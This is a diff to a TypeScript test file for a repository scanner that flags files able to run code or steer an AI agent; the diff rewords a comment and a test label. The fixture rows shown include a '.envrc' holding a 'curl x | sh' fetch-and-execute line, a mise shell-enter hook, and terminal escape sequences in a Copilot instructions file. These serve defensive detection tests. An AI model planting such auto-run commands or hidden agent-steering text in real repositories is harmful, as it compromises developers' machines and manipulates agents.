@@ -7,7 +7,7 @@ import { inspectRepository, type FindingKind, type Severity } from "./index.ts";
 type Case = [path: string, content: unknown, severity: Severity, kind: FindingKind, what: RegExp];
 const text = (value: unknown) => (typeof value === "string" ? value : JSON.stringify(value));
 
-/** One row a sink: where it lies, what it holds, what is said of it. */
+/** One row a sink: its path, its content, its finding. */
 const sinks: Case[] = [
   [".envrc", "curl x | sh", "high", "shell_environment", /direnv: curl/],
   ["mise.toml", '[hooks]\nenter = "touch x"\n', "high", "shell_environment", /hooks\.enter/],
@@ -131,7 +131,7 @@ const sinks: Case[] = [
   [".github/copilot-instructions.md", "\u001B[2J\n", "high", "hidden_text", /escapes/],
 ];
 
-describe("[S-6] what would run or steer an agent is told", () => {
+describe("[S-6] what would run or steer an agent is reported", () => {
   it.each(sinks.map((row, index) => [`${index} ${row[0]} ${String(row[4])}`, row] as const))(
     "%s",
     (_name, [path, content, severity, kind, what]) => {
